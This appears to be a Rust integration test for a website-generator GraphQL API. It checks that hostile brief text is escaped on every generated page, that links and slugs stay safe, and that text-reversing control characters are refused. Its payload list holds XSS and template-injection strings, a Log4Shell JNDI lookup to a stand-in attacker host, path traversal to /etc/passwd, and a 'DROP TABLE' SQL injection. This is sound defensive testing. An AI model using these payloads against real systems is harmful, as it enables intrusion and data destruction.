//! Briefs of people who mean harm, over GraphQL: what they wrote is text in every field and in the preview.
//!
//! The same list goes through `generate` in `generate/hostile.rs`.

use serde_json::{Value, json};

use crate::graphql_served::open;
use crate::support::Backend;

/// What people write who want something else than a website.
pub const HOSTILE: [&str; 13] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</style><svg onload=alert(1)>",
    "<!-- <iframe src='javascript:alert(1)'> ]]>",
    "{{7*7}} {{constructor.constructor('alert(1)')()}}",
    "${7*7} #{7*7} <%= 7*7 %> {% raw %}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "[click](javascript:alert(1)) [more](data:text/html,<script>alert(1)</script>)",
    "javascript:alert(1) JaVaScRiPt:alert(2) vbscript:msgbox",
    "'; DROP TABLE jobs; --",
    "Phone +44 131 555 0101 <script> hello@<script>.example",
];

/// Characters that show a text in another order than it has. They are refused by name instead of shown.
pub const TURNING: [char; 9] = [
    '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}', '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}',
];

/// A brief in which every text is this one.
fn brief(text: &str) -> Value {
    json!({
        "name": text,
        "description": text,
        "brief": {
            "businessName": text, "summary": format!("{text}. We sell {text}, bread and tea."), "customBusinessType": text,
            "objectives": [text], "facts": [text, format!("{text}: £5.00"), format!("Services: {text}, repair")],
        },
    })
}

fn texts<'a>(value: &'a Value, field: &'a str, into: &mut Vec<(&'a str, &'a str)>) {
    match value {
        Value::String(text) => into.push((field, text)),
        Value::Array(items) => items.iter().for_each(|item| texts(item, field, into)),
        Value::Object(fields) => fields.iter().for_each(|(name, item)| texts(item, name, into)),
        _ => {}
    }
}

const CREATE: &str = "mutation($input: CreateBlueprintInput!) {
    createBlueprint(input: $input) { blueprint { id } userErrors { code message path } } }";
const GENERATE: &str = "mutation($input: GenerateSiteInput!) {
    generateSite(input: $input) { job { id warnings } userErrors { code message } } }";
const READ: &str = "query($id: ID!) { blueprint(id: $id) { previewUrl pages { slug title previewUrl blocks {
    ... on HeroBlock { eyebrow headline subheadline actions { label href } }
    ... on SplitBlock { title body bullets action { label href } }
    ... on ProductsBlock { title intro items { name description price } }
    ... on ContactBlock { title intro email phone address }
    ... on TextBlock { title body }
    ... on FaqBlock { title items { question answer } }
    ... on CtaBlock { title body actions { label href } } } } } }";

async fn a_hostile_brief_is_text_in_every_answer_and_on_every_page(backend: Backend) {
    let served = open(backend).await;
    for (at, text) in HOSTILE.iter().enumerate() {
        let created = served.data(CREATE, json!({ "input": brief(text) })).await;
        let id = &created["createBlueprint"]["blueprint"]["id"];
        assert!(id.is_string(), "{text}: {created}");
        let input = json!({ "blueprintId": id, "idempotencyKey": format!("hostile-{at}"), "maxPages": 3 });
        let started = served.data(GENERATE, json!({ "input": input })).await;
        let job = crate::graphql_served::uuid(sitewright::ids::IdKind::Job, &started["generateSite"]["job"]["id"]);
        served.world.finished(job).await;
        let read = served.data(READ, json!({ "id": id })).await;
        let mut found = Vec::new();
        texts(&read, "", &mut found);
        assert!(found.len() > 30, "{text}: {read}");
        for (field, said) in found {
            let hidden = said
                .chars()
                .find(|c| c.is_control() && *c != '\n' || TURNING.contains(c));
            assert_eq!(hidden, None, "{field}: {said:?}");
            if field == "href" {
                let is_safe = ["/", "#", "tel:", "mailto:"]
                    .iter()
                    .any(|start| said.starts_with(start));
                assert!(is_safe && !said.contains(['<', '"', '\'']), "{said}");
            }
            if field == "slug" {
                assert!(
                    said.bytes()
                        .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-'),
                    "{said}"
                );
            }
        }
        for page in read["blueprint"]["pages"].as_array().unwrap() {
            let url = served.url(page["previewUrl"].as_str().unwrap());
            let document = served.client.get(url).send().await.unwrap().text().await.unwrap();
            crate::generate::hostile::check_document(text, &document);
        }
    }
    served.settle().await;
}

async fn characters_that_turn_text_are_refused_in_every_field(backend: Backend) {
    let served = open(backend).await;
    for character in TURNING {
        let input = brief(&format!("live{character}evil"));
        let refused = served.data(CREATE, json!({ "input": input })).await;
        let errors = refused["createBlueprint"]["userErrors"].as_array().unwrap();
        let said = format!("Remove the invisible control character U+{:04X}.", character as u32);
        assert_eq!(errors.len(), 9, "{refused}");
        assert!(errors.iter().all(|error| error["message"] == said), "{refused}");
        assert_eq!(refused["createBlueprint"]["blueprint"], Value::Null);
    }
    served.settle().await;
}

async fn a_language_that_the_writer_does_not_speak_is_a_warning_of_the_job(backend: Backend) {
    let served = open(backend).await;
    for (language, expected) in [
        ("en-IE", json!([])),
        (
            "tlh",
            json!(["Language 'tlh' is not available offline; the text is in English."]),
        ),
    ] {
        let mut input = brief("Rye & Shine");
        input["brief"]["language"] = json!(language);
        let created = served.data(CREATE, json!({ "input": input })).await;
        let id = &created["createBlueprint"]["blueprint"]["id"];
        let input = json!({ "blueprintId": id, "idempotencyKey": language, "maxPages": 1 });
        let started = served.data(GENERATE, json!({ "input": input })).await;
        let job = &started["generateSite"]["job"];
        assert_eq!(job["warnings"], expected, "{started}");
        served
            .world
            .finished(crate::graphql_served::uuid(sitewright::ids::IdKind::Job, &job["id"]))
            .await;
    }
    served.settle().await;
}

on_both!(
    a_hostile_brief_is_text_in_every_answer_and_on_every_page,
    characters_that_turn_text_are_refused_in_every_field,
    a_language_that_the_writer_does_not_speak_is_a_warning_of_the_job,
);
